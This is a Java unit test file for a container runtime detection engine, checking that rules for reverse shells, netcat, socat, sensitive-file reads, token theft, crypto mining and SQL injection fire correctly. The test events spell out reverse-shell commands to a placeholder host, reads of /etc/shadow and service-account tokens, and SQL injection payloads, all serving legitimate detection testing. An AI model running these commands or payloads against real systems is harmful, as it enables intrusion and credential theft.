package dev.vigil.detect.rules;

import static org.assertj.core.api.Assertions.assertThat;

import dev.vigil.detect.rules.fields.FieldSource;
import dev.vigil.detect.rules.fields.HostContext;
import dev.vigil.detect.rules.fields.HostFields;
import dev.vigil.detect.rules.fields.NetContext;
import dev.vigil.detect.rules.fields.NetFields;
import dev.vigil.model.identity.Endpoint;
import dev.vigil.model.identity.WorkloadRef;
import dev.vigil.model.net.ConnId;
import dev.vigil.model.net.ConnRecord;
import dev.vigil.model.net.HttpRecord;
import dev.vigil.model.net.MysqlRecord;
import dev.vigil.model.net.PostgresqlRecord;
import dev.vigil.model.net.SslRecord;
import dev.vigil.model.net.StratumRecord;
import dev.vigil.model.net.NoticeRecord;
import dev.vigil.model.record.LogRecord;
import java.lang.management.ManagementFactory;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

/** Vigil's default rules: each fires on its positive events and stays quiet on the negative ones. */
class VigilRulesTest {

    /** The network rules ship disabled (the built-in detectors supersede them); these tests enable them. */
    static final RuleFile ENABLE_NETWORK_RULES = new RuleFile("enable-network-rules.yaml", """
            - rule: TLS older than 1.2
              enabled: true
              override:
                enabled: replace
            - rule: Plaintext into a namespace requiring encryption
              enabled: true
              override:
                enabled: replace
            - rule: Network scan detected
              enabled: true
              override:
                enabled: replace
            - rule: Crypto mining protocol
              enabled: true
              override:
                enabled: replace
            - rule: SQL injection in HTTP request
              enabled: true
              override:
                enabled: replace
            - rule: SQL injection in database query
              enabled: true
              override:
                enabled: replace
            """);

    private static final FieldSource<NetContext> NET = NetFields.SOURCE;
    private static final ConnId ID = new ConnId("10.244.1.5", 41000, "10.244.2.9", 5432, "tcp");
    private static RuleSet rules;
    private final HostContext ctx = new HostContext("node-1");
    private final NetContext net = new NetContext();

    @BeforeAll
    static void load() {
        rules = RuleEngine.builder().source(HostFields.SOURCE).source(NET).matching(RuleMatching.ALL).build()
                .load(List.of(RuleFile.resource("rules/vigil_rules.yaml"), ENABLE_NETWORK_RULES));
    }

    private List<String> fired(Events.Builder event) {
        List<String> out = new ArrayList<>();
        rules.forSource(HostFields.SOURCE).evaluate(event.bind(ctx), m -> out.add(m.rule().name()));
        return out;
    }

    private List<Match> fired(LogRecord record, Endpoint orig, Endpoint peer, Map<String, String> peerLabels) {
        List<Match> out = new ArrayList<>();
        rules.forSource(NET).evaluate(net.bind(record, orig, peer, null, peerLabels), out::add);
        return out;
    }

    private List<String> firedNames(LogRecord record) {
        return fired(record, null, null, null).stream().map(m -> m.rule().name()).toList();
    }

    private Events.Builder exec(String name, String... args) {
        List<String> argv = new ArrayList<>(List.of(name));
        argv.addAll(List.of(args));
        return Events.exec(name, argv, "containerd-shim");
    }

    private Events.Builder onHost(Events.Builder event) {
        return event.onHost();
    }

    @Test
    void everyRuleLoadsEvaluableWithAMitreTechnique() {
        LoadReport report = rules.report();
        assertThat(report.errors()).isEmpty();
        assertThat(report.rules()).hasSize(23);
        assertThat(report.rules()).allSatisfy(r -> {
            assertThat(r.state()).as(r.name()).isEqualTo(LoadReport.State.EVALUABLE);
            assertThat(r.firesOnVigilEvents()).as(r.name()).isTrue();
            assertThat(r.missingOutputFields()).as(r.name()).isEmpty();
        });
        assertThat(rules.rules()).allSatisfy(r -> {
            assertThat(r.tags()).as(r.name()).anyMatch(t -> t.startsWith("mitre_"));
            assertThat(r.tags()).as(r.name()).anyMatch(t -> t.matches("T\\d{4}(\\.\\d{3})?"));
        });
        assertThat(report.warnings()).as("no unused items, no rule without event type")
                .extracting(LoadMessage::toString).isEmpty();
    }

    @Test
    void theModelHasEveryLogTheNetworkRulesRead() {
        assertThat(NetFields.modelLogs()).containsKeys("conn", "notice", "weird", "http", "dns", "ssl", "postgresql",
                "mysql", "stratum");
    }

    @Test
    void terminalShellInContainer() {
        assertThat(fired(exec("bash").session(34816, 1, 0))).containsExactly("Terminal shell in container");
        assertThat(fired(exec("bash"))).isEmpty();
        assertThat(fired(onHost(exec("bash").session(34816, 1, 0)))).isEmpty();
    }

    @Test
    void shellSpawnedByServerProcess() {
        assertThat(fired(Events.exec("sh", List.of("sh", "-c", "id"), "java", "tini")))
                .containsExactly("Shell spawned by a server process");
        assertThat(fired(Events.exec("sh", List.of("sh", "-c", "id"), "bash"))).isEmpty();
        assertThat(fired(Events.exec("python3", List.of("python3"), "nginx"))).isEmpty();
        assertThat(fired(Events.exec("sh", List.of("sh", "-c", "nslookup x;id"), "diag", "httpd")))
                .as("through a CGI script").containsExactly("Shell spawned by a server process");
        assertThat(fired(Events.exec("sh", List.of("sh", "-c", "id"), "diag", "bash"))).isEmpty();
        assertThat(fired(Events.exec("exe", List.of("sh", "-c", "nslookup x;id"), "diag", "httpd")))
                .as("busybox sh exec'd as /proc/self/exe, not yet renamed").containsExactly("Shell spawned by a server process");
    }

    @Test
    void reverseShell() {
        Events.Builder dup = Events.exec("bash", List.of("bash", "-i"), "sh").event("dup2", 1)
                .args("oldfd=3 newfd=0 socket=connected")
                .fd(0, '4', "10.244.1.5:41000->203.0.113.7:4444", "tcp", "10.244.1.5", 41000, "203.0.113.7", 4444, null);
        assertThat(fired(dup)).containsExactly("Reverse shell");
        Events.Builder cgi = Events.exec("busybox", List.of("busybox", "httpd", "-f"), "busybox").event("dup2", 1)
                .args("oldfd=3 newfd=0 socket=accepted")
                .fd(0, '4', "10.244.1.40:56232->10.96.10.10:80", "tcp", "10.244.1.40", 56232, "10.96.10.10", 80, null);
        assertThat(fired(cgi)).as("a server handing an accepted client to a CGI program").isEmpty();
        Events.Builder ping = Events.exec("ping", List.of("ping", "-c", "1", "10.244.1.7"), "xargs").event("dup2", 1)
                .args("oldfd=3 newfd=0 socket=connected")
                .fd(0, '4', "10.244.1.10:0->10.244.1.7:0", null, "10.244.1.10", 0, "10.244.1.7", 0, null);
        assertThat(fired(ping)).as("busybox ping's ICMP socket on fd 0").isEmpty();
        Events.Builder unix = Events.exec("bash", List.of("bash"), "sh").event("dup2", 1).args("oldfd=3 newfd=1")
                .fd(1, 'u', "/run/app.sock", null, null, -1, null, -1, null);
        assertThat(fired(unix)).isEmpty();
        Events.Builder high = Events.exec("app", List.of("app"), "sh").event("dup3", 1).args("oldfd=3 newfd=7")
                .fd(7, '4', "a->b", "tcp", "10.0.0.1", 1, "10.0.0.2", 2, null);
        assertThat(fired(high)).isEmpty();
    }

    @Test
    void drift() {
        assertThat(fired(exec("xmrig").exe(true, false))).containsExactly("Drift - executable not in the image");
        assertThat(fired(exec("xmrig").exe(false, false))).isEmpty();
        assertThat(fired(exec("xmrig").exe(null, null))).isEmpty();
    }

    @Test
    void filelessExecution() {
        assertThat(fired(exec("memrun").exe(false, true))).containsExactly("Fileless execution");
        assertThat(fired(onHost(exec("memrun").exe(null, true)))).containsExactly("Fileless execution");
        assertThat(fired(exec("memrun").exe(false, false))).isEmpty();
    }

    @Test
    void executionFromDevShm() {
        assertThat(fired(exec("payload").process(7, 1, "payload", "/dev/shm/payload", List.of("./payload"), "/dev/shm")))
                .containsExactly("Execution from /dev/shm");
        assertThat(fired(exec("payload").process(7, 1, "payload", "/dev/shm/.x/payload", List.of("payload"), "/")))
                .containsExactly("Execution from /dev/shm");
        assertThat(fired(Events.exec("sh", List.of("sh", "-c", "/dev/shm/run.sh"), "bash")))
                .containsExactly("Execution from /dev/shm");
        assertThat(fired(exec("payload").process(7, 1, "payload", "/usr/bin/payload", List.of("payload"), "/dev/shm")))
                .isEmpty();
    }

    @Test
    void networkToolsInContainers() {
        assertThat(fired(exec("nmap", "-sS", "10.244.0.0/16"))).containsExactly("Network scanner run in container");
        assertThat(fired(onHost(exec("nmap", "-sS", "10.244.0.0/16")))).isEmpty();
        assertThat(fired(exec("tcpdump", "-i", "eth0"))).containsExactly("Packet sniffer run in container");
        assertThat(fired(onHost(exec("tcpdump", "-i", "eth0")))).isEmpty();
        assertThat(fired(exec("socat", "TCP:203.0.113.7:4444", "EXEC:/bin/sh"))).containsExactly("Socat run in container");
        assertThat(fired(onHost(exec("socat", "-", "TCP:localhost:80")))).isEmpty();
    }

    @Test
    void netcatWithCommandExecution() {
        assertThat(fired(onHost(exec("nc", "-e", "/bin/sh", "203.0.113.7", "4444")))).containsExactly("Netcat with command execution");
        assertThat(fired(exec("ncat", "203.0.113.7", "4444", "--sh-exec", "/bin/sh"))).containsExactly("Netcat with command execution");
        assertThat(fired(exec("nc", "-z", "db", "5432"))).isEmpty();
        assertThat(fired(exec("nc", "-lvnp", "8080"))).isEmpty();
        assertThat(fired(Events.exec("exe", List.of("nc", "203.0.113.7", "4444", "-e", "/bin/sh"), "sh")))
                .as("run from busybox sh: comm 'exe', argv[0] 'nc'").containsExactly("Netcat with command execution");
    }

    @Test
    void packageManagerAtRuntime() {
        assertThat(fired(exec("apt-get", "install", "-y", "nmap"))).containsExactly("Package manager run in container");
        assertThat(fired(onHost(exec("apt-get", "upgrade")))).isEmpty();
        assertThat(fired(exec("python3", "-m", "http.server"))).isEmpty();
    }

    @Test
    void ptraceAttach() {
        Events.Builder attach = exec("gdb", "-p", "1").event("ptrace", 1).args("request=PTRACE_ATTACH pid=1");
        assertThat(fired(attach)).containsExactly("Ptrace attach in container");
        assertThat(fired(exec("strace").event("ptrace", 1).args("request=PTRACE_TRACEME pid=0"))).isEmpty();
        assertThat(fired(onHost(exec("gdb").event("ptrace", 1).args("request=PTRACE_SEIZE pid=1")))).isEmpty();
    }

    @Test
    void kernelModuleLoad() {
        assertThat(fired(exec("insmod", "rootkit.ko").event("finit_module", 1))).containsExactly("Kernel module loaded from container");
        assertThat(fired(onHost(exec("modprobe", "overlay").event("finit_module", 1)))).isEmpty();
    }

    @Test
    void namespaceChanges() {
        assertThat(fired(exec("unshare", "-Ur").event("unshare", 1).args("flags=CLONE_NEWUSER|CLONE_NEWNS")))
                .containsExactly("Namespace change in container");
        assertThat(fired(exec("nsenter").event("setns", 1).args("fd=3 nstype=CLONE_NEWNET")))
                .containsExactly("Namespace change in container");
        assertThat(fired(onHost(exec("unshare").event("unshare", 1).args("flags=CLONE_NEWNS")))).isEmpty();
    }

    @Test
    void packetSocket() {
        Events.Builder raw = exec("scapy").event("socket", 1).args("domain=AF_PACKET(17) type=3 proto=768")
                .fd(-1, 'p', "packet", null, null, -1, null, -1, null);
        assertThat(fired(raw)).containsExactly("Packet socket in container");
        assertThat(fired(onHost(exec("dhclient").event("socket", 1).args("domain=AF_PACKET(17) type=2 proto=0")))).isEmpty();
    }

    @Test
    void sensitiveFileRead() {
        assertThat(fired(Events.open("cat", "/etc/shadow", "r"))).containsExactly("Sensitive file read");
        assertThat(fired(Events.open("cat", "/home/alice/.ssh/id_ed25519", "r"))).containsExactly("Sensitive file read");
        assertThat(fired(Events.open("sshd", "/etc/shadow", "r"))).isEmpty();
        assertThat(fired(Events.open("cat", "/etc/shadow", "w"))).isEmpty();
        assertThat(fired(Events.open("cat", "/etc/shadow.bak", "r"))).isEmpty();
        assertThat(fired(Events.open("cat", "/etc/passwd", "r"))).isEmpty();
    }

    @Test
    void serviceAccountTokenRead() {
        String token = "/var/run/secrets/kubernetes.io/serviceaccount/token";
        assertThat(fired(Events.open("cat", token, "r"))).containsExactly("Service account token read");
        assertThat(fired(Events.open("curl", "/run/secrets/kubernetes.io/serviceaccount/token", "r")))
                .containsExactly("Service account token read");
        assertThat(fired(Events.open("java", token, "r"))).as("the application's own client").isEmpty();
        assertThat(fired(Events.open("cat", "/var/run/secrets/kubernetes.io/serviceaccount/ca.crt", "r"))).isEmpty();
    }

    private static SslRecord ssl(String version) {
        return new SslRecord(1.0, "CSsl1", ID, version, "TLS_RSA_WITH_AES_128_CBC_SHA", null, "db.shop.local", false,
                null, null, true, List.of("h2"), null, null, null, null, null);
    }

    private static PostgresqlRecord postgresql(String sql) {
        return new PostgresqlRecord(1.0, "CPg1", ID, "shop", "shop", "psql", "simple_query", sql, "command_complete",
                "SELECT 1", true, 1L, "16.4", null);
    }

    private static MysqlRecord mysql(String sql) {
        return new MysqlRecord(1.0, "CMy1", ID, "query", sql, true, 0L, null, null, 1L);
    }

    @Test
    void weakTls() {
        assertThat(firedNames(ssl("TLSv10"))).containsExactly("TLS older than 1.2");
        assertThat(firedNames(ssl("SSLv3"))).containsExactly("TLS older than 1.2");
        assertThat(firedNames(ssl("TLSv12"))).isEmpty();
        assertThat(firedNames(ssl("TLSv13"))).isEmpty();
    }

    @Test
    void cryptoMiningProtocol() {
        StratumRecord subscribe = new StratumRecord(1.0, "CStr1", new ConnId("10.244.1.5", 40000, "203.0.113.50", 3333,
                "tcp"), "mining.subscribe", null, "XMRig/6.21.0", true, null, 0);
        List<Match> m = fired(subscribe, new Endpoint.Pod("10.244.1.5", "shop", "web-1", null, "n1"),
                new Endpoint.External("203.0.113.50", "pool.example"), null);
        assertThat(m).extracting(x -> x.rule().name()).containsExactly("Crypto mining protocol");
        assertThat(m.getFirst().output()).isEqualTo("Stratum mining session (mining.subscribe user=<NA> agent=XMRig/6.21.0 "
                + "miner=shop/web-1 pool=pool.example 10.244.1.5:40000 -> 203.0.113.50:3333 uid=CStr1)");
        assertThat(firedNames(http("/stratum", null))).isEmpty();
    }

    @Test
    void plaintextIntoANamespaceRequiringEncryption() {
        Endpoint client = new Endpoint.Pod("10.244.1.5", "shop", "web-1", new WorkloadRef("shop", "Deployment", "web"), "n1");
        Endpoint server = new Endpoint.Pod("10.244.2.9", "payments", "db-0",
                new WorkloadRef("payments", "StatefulSet", "db"), "n1");
        Map<String, String> required = Map.of("vigil.dev/encryption", "required");
        List<Match> m = fired(conn(false), client, server, required);
        assertThat(m).extracting(x -> x.rule().name()).containsExactly("Plaintext into a namespace requiring encryption");
        assertThat(m.getFirst().output()).isEqualTo("Plaintext connection into namespace payments, which requires "
                + "encryption (client=shop/web-1 server=payments/db-0 service=postgresql 10.244.1.5:41000 -> "
                + "10.244.2.9:5432 proto=tcp uid=CConn1)");
        assertThat(m.getFirst().outputFields()).containsEntry("conn.id.resp_p", 5432L).containsEntry("peer.k8s.ns.name",
                "payments");
        assertThat(fired(conn(true), client, server, required)).isEmpty();
        assertThat(fired(conn(null), client, server, required)).as("unknown is not plaintext").isEmpty();
        assertThat(fired(conn(false), client, server, Map.of())).isEmpty();
        assertThat(fired(conn(false), client, server, null)).isEmpty();
    }

    private static ConnRecord conn(Boolean encrypted) {
        return new ConnRecord(1.0, "CConn1", ID, "postgresql", 0.5, 100, 200, "SF", 0, "ShADadFf", 5, 300,
                5, 400, "1:abc", -1, -1, encrypted);
    }

    @Test
    void networkScans() {
        NoticeRecord scan = new NoticeRecord(1.0, null, null, "Scan::Port_Scan",
                "10.244.1.5 scanned at least 15 unique ports of host 10.244.2.9 in 0m2s", "10.244.1.5", "10.244.2.9", null, 15);
        Endpoint scanner = new Endpoint.Pod("10.244.1.5", "shop", "web-1", null, "n1");
        List<Match> m = fired(scan, scanner, null, null);
        assertThat(m).extracting(x -> x.rule().name()).containsExactly("Network scan detected");
        assertThat(m.getFirst().output()).isEqualTo("Scan::Port_Scan by 10.244.1.5 (10.244.1.5 scanned at least 15 unique "
                + "ports of host 10.244.2.9 in 0m2s; scanner=shop/web-1 count=15)");
        assertThat(firedNames(new NoticeRecord(1.0, null, null, "Weird::Activity", "x", null, null, null, 1))).isEmpty();
        assertThat(firedNames(conn(false))).isEmpty();
    }

    @Test
    void sqlInjectionInHttp() {
        assertThat(firedNames(http("/items?id=1 UNION SELECT password FROM users", null)))
                .containsExactly("SQL injection in HTTP request");
        assertThat(firedNames(http("/login", "user=admin' OR '1'='1&pass=x")))
                .containsExactly("SQL injection in HTTP request");
        assertThat(firedNames(http("/items?id=1;sleep(5)", null))).containsExactly("SQL injection in HTTP request");
        assertThat(firedNames(http("/items?id=1&sort=name", null))).isEmpty();
        assertThat(firedNames(http("/union-station/select", "name=bob"))).isEmpty();
    }

    private static HttpRecord http(String uri, String postBody) {
        return new HttpRecord(1.0, "CHttp1", ID, 1, postBody == null ? "GET" : "POST", "shop.local",
                uri, null, "1.1", "curl/8.5", null, postBody == null ? 0 : postBody.length(), 10, 200, "OK", null, null,
                null, null, postBody);
    }

    @Test
    void sqlInjectionInDatabaseQueries() {
        assertThat(firedNames(postgresql("SELECT * FROM users WHERE name = '' OR '1'='1'")))
                .containsExactly("SQL injection in database query");
        assertThat(firedNames(postgresql("SELECT 1; SELECT pg_sleep(10)")))
                .containsExactly("SQL injection in database query");
        assertThat(firedNames(mysql("SELECT * FROM items WHERE id = 1 AND SLEEP(5)")))
                .containsExactly("SQL injection in database query");
        assertThat(firedNames(postgresql("SELECT name FROM users WHERE id = $1"))).isEmpty();
        assertThat(firedNames(mysql("SELECT a FROM t UNION SELECT b FROM u"))).isEmpty();
    }

    @Test
    void evaluatingEventsThatMatchNothingAllocatesNothing() {
        com.sun.management.ThreadMXBean threads = (com.sun.management.ThreadMXBean) ManagementFactory.getThreadMXBean();
        SourceRules<HostContext> host = rules.forSource(HostFields.SOURCE);
        HostContext a = Events.exec("python3", List.of("python3", "-m", "app", "--port", "8080"),
                "bash", "containerd-shim").bind(new HostContext("n"));
        HostContext b = Events.open("java", "/app/config/settings.yaml", "r").bind(new HostContext("n"));
        HostContext c = Events.exec("sh", List.of("sh", "-c", "sleep 1"), "bash").event("procexit", 1).exit(0, 0)
                .bind(new HostContext("n"));
        List<HostContext> events = List.of(a, b, c);
        int matches = 0;
        for (int i = 0; i < 20_000; i++) {
            matches += host.evaluate(events.get(i % 3), m -> { });
        }
        int evaluations = 300_000;
        long before = threads.getCurrentThreadAllocatedBytes();
        for (int i = 0; i < evaluations; i++) {
            matches += host.evaluate(events.get(i % 3), m -> { });
        }
        long allocated = threads.getCurrentThreadAllocatedBytes() - before;
        assertThat(matches).isZero();
        // One byte per evaluation on average: an allocating evaluation costs 16 bytes or more (4.8 MB here);
        // what remains is the JIT's own bookkeeping on this thread, which varied up to 33 kB between runs.
        assertThat(allocated).as("bytes allocated by %d evaluations (JIT activity aside, each would cost 16+)",
                evaluations).isLessThan(evaluations);
    }
}
